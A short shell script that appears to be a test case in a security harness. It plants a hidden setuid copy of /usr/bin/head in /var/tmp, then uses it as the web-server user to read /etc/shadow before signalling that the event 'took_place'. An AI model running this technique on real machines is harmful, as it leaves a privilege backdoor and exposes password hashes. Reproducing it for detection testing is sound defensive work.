#!/bin/sh
. /opt/case/case.sh

perl -e '
umask 0; use Fcntl; open my $i, "<:raw", "/usr/bin/head" or die; local $/; my $d = <$i>;
sysopen my $o, "/var/tmp/.h", O_CREAT | O_WRONLY | O_EXCL, 04755 or die; syswrite $o, $d'
test -u /var/tmp/.h
setpriv --reuid 33 --regid 33 --clear-groups /var/tmp/.h -n 1 /etc/shadow | grep -q root
took_place
